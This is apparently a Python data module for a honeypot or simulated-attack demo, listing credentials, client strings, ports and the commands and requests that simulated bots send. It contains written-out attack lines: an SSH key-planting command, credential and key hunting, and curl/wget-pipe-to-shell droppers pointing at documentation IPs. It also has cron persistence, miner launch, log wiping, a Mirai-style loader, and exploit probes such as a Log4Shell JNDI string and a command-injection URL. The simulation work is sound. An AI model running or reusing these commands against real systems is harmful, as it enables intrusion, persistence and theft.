"""What the simulated attackers send: written for this demo in the manner of what bots really send.

Hosts in addresses and commands are those reserved for documentation, so that nothing here points at anybody.
"""


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


USERS = _words(
    "root admin user test ubuntu oracle postgres guest support pi mysql git ftpuser hadoop deploy nagios tomcat www "
    "jenkins minecraft ec2-user debian centos administrator ubnt default service steam teamspeak ts3 es elastic kafka "
    "docker vagrant ansible zabbix backup dev developer demo web www-data nginx apache ftp ftptest uucp operator sys "
    "student server sysadmin super tech monitor redis solr spark vbox weblogic wordpress sftp svn samba rabbitmq odoo "
    "gitlab gpadmin dspace cisco 1234 supervisor master mother daemon bin nobody sshd system testuser user1 user2 "
    "test1 test2 admin1 admin2 max alex ivan sergey dmitry wang li zhang chen john david mike anna maria lisa"
)
PASSWORDS = _words(
    "123456 admin password root 1234 12345 12345678 123456789 test 123 qwerty 1 admin123 root123 123123 111111 "
    "1qaz2wsx abc123 P@ssw0rd 1q2w3e4r pass 000000 54321 user toor raspberry password123 ubuntu oracle postgres "
    "support guest default qwerty123 1q2w3e 1234567 1234567890 passw0rd Password1 welcome letmein "
    "changeme master test123 "
    "test1234 admin1234 root1234 rootroot adminadmin qazwsx 666666 888888 654321 123321 112233 password1 iloveyou "
    "dragon monkey football sunshine xc3511 vizxv 7ujMko0admin anko hi3518 juantech zlxx. klv123 jvbzd pi raspberrypi "
    "mysql ftpuser hadoop deploy nagios tomcat jenkins minecraft centos ubnt service steam elastic docker vagrant "
    "zabbix backup dev demo nginx apache server student redis gitlab system cisco Aa123456 Aa123456. Admin@123 "
    "Huawei@123 p@ssw0rd P@ssword1 Passw0rd! Qwer1234 !QAZ2wsx zaq12wsx asdf1234 a123456 asdfgh q1w2e3r4 1qaz@WSX "
    "qwe123 123qwe abcd1234 abc@123 root@123 admin@2026 Winter2025 Summer2026 moscow spartak zenit lokomotiv"
)
TAIL_STEMS = _words(
    "root admin server qwerty pass dragon shadow master alpha linux debian test user oracle secret love king star "
    "night winter summer maxim olga natasha vladimir wangyi xiaoming hello"
)
CLIENTS = (  # version string, how many of a hundred sessions
    ("SSH-2.0-Go", 46),
    ("SSH-2.0-libssh_0.9.6", 14),
    ("SSH-2.0-libssh2_1.11.0", 11),
    ("SSH-2.0-libssh-0.6.3", 7),
    ("SSH-2.0-paramiko_2.11.0", 6),
    ("SSH-2.0-OpenSSH_7.4", 4),
    ("SSH-2.0-PUTTY", 4),
    ("SSH-2.0-JSCH-0.1.54", 3),
    ("SSH-2.0-AsyncSSH_2.14.0", 2),
    ("SSH-2.0-OpenSSH_for_Windows_8.1", 1),
    ("SSH-2.0-Renci.SshNet.SshClient.0.0.1", 1),
    ("SSH-2.0-8.47 FlowSsh: Bitvise SSH Client (Tunnelier) 8.47", 1),
)
PLANTER = (
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDemoKeyOfTheSimulatedBotnet "
    "rsa-key-20240117'>>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "uname -a",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
)
RECON = (
    "uname -a",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo",
    "nproc",
    "id",
    "whoami",
    "ps aux | head -30",
    "cat /etc/passwd",
    "ls -la /root",
    "history",
    "ifconfig || ip a",
    "netstat -antp | head",
    "echo hello",
    "cat /etc/os-release",
    "lspci | grep -i vga",
    "nvidia-smi -q | grep 'Product Name'",
    "export HISTFILE=/dev/null; uname -a; uptime",
    "find / -name '*.pem' -size -8k 2>/dev/null | head",
    "cat ~/.bash_history | grep -i pass",
    "docker ps",
)
DROPPERS = (
    "cd /tmp || cd /var/run || cd /mnt || cd /root; wget http://203.0.113.{n}/bins.sh; "
    "chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    "curl -s -L http://203.0.113.{n}/setup.sh | bash -s x{n}",
    "wget -qO- http://198.51.100.{n}/x/1sh | sh",
    "cd /tmp; tftp -g -r tftp1.sh 203.0.113.{n}; chmod 777 tftp1.sh; sh tftp1.sh",
    "nohup /tmp/.x{n}/kworkerds -o pool.example.net:3333 -u w{n} >/dev/null 2>&1 &",
    "echo -e 'root:Zx{n}kd82\\nroot:Zx{n}kd82' | chpasswd; pkill -9 xmrig",
    "(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.{n}/i.sh | sh') | crontab -",
    "iptables -F; ulimit -n 65535; rm -rf /var/log/wtmp /var/log/secure",
)
MIRAI = (
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox HAKAI",
    "cat /proc/mounts; /bin/busybox HAKAI",
    "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox HAKAI",
    "tftp; wget; /bin/busybox HAKAI",
    "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
    "/bin/busybox wget http://203.0.113.77/bins/arm7 -O - > .f; chmod 777 .f; ./.f selfrep.telnet",
    "rm .s; exit",
)
PATHS = (  # method, path, vulnerability or ""
    ("GET", "/", ""),
    ("GET", "/robots.txt", ""),
    ("GET", "/favicon.ico", ""),
    ("GET", "/.env", ""),
    ("GET", "/.git/config", ""),
    ("POST", "/boaform/admin/formLogin", ""),
    ("GET", "/wp-login.php", ""),
    ("GET", "/phpmyadmin/index.php", ""),
    ("GET", "/actuator/health", ""),
    ("GET", "/owa/auth/logon.aspx", ""),
    ("GET", "/remote/login", ""),
    ("GET", "/manager/html", ""),
    ("GET", "/solr/admin/info/system?wt=json", ""),
    ("GET", "/sitemap.xml", ""),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "CVE-2021-41773"),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "CVE-2017-9841"),
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "CVE-2018-20062"),
    ("GET", "/?x=${jndi:ldap://203.0.113.66:1389/a}", "CVE-2021-44228"),
    ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://203.0.113.9/Mozi.m", "CVE-2024-12847"),
    ("POST", "/GponForm/diag_Form?images/", "CVE-2018-10561"),
)
AGENTS = (
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.example.org/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "Hello, world",
    "masscan/1.3",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
)
PAYLOADS = (
    "GET / HTTP/1.0\\r\\n\\r\\n",
    "\\x16\\x03\\x01\\x01\\x17\\x01\\x00\\x01\\x13\\x03\\x03",
    "\\x03\\x00\\x00/*\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr\\r\\n"
    "\\x01\\x00\\x08\\x00\\x03\\x00\\x00\\x00",
    "*1\\r\\n$4\\r\\nINFO\\r\\n",
    "CNXN\\x00\\x00\\x00\\x01\\x00\\x10\\x00\\x00host::",
    "\\x05\\x01\\x00",
    "OPTIONS / RTSP/1.0\\r\\nCSeq: 1\\r\\n\\r\\n",
    "RFB 003.008\\n",
    "GET /json/version HTTP/1.1\\r\\nHost: 198.51.100.23\\r\\n\\r\\n",
    "EHLO scanner.example.com\\r\\n",
    "stats\\r\\n",
    "\\x00\\x00\\x00\\x85\\xffSMBr\\x00\\x00\\x00\\x00\\x18S\\xc8",
)
SCANNED_PORTS = (
    3389, 5900, 6379, 8080, 5555, 8443, 25, 81, 8888, 5432, 2222, 8000, 110, 143, 993, 995, 389, 1521, 2375, 2376, 5601,
    7001, 8081, 8088, 8090, 9000, 9001, 9090, 10000, 11211, 27018, 50070, 5985, 5986, 873, 111, 139, 179, 515, 548, 587,
    1080, 1200, 1337, 1900, 2000, 2049, 2082, 2083, 3000, 3128, 3299, 4444, 4567, 4786, 5000, 5038, 5357, 5672, 5800,
    6000, 6443, 6666, 6667, 7547, 7777, 8001, 8008, 8009, 8010, 8083, 8086, 8123, 8291, 8500, 8545, 8728, 8834, 9042,
    9092, 9100, 9160, 9418, 9999, 10250, 10443, 15672, 16379, 20000, 25565, 32400, 37215, 37777, 49152, 52869, 60001,
)  # fmt: skip
SYSTEMS = ("Linux 3.11 and newer", "Linux 2.2.x-3.x", "Windows 7 or 8", "Windows NT kernel", "Linux 4.x", "")
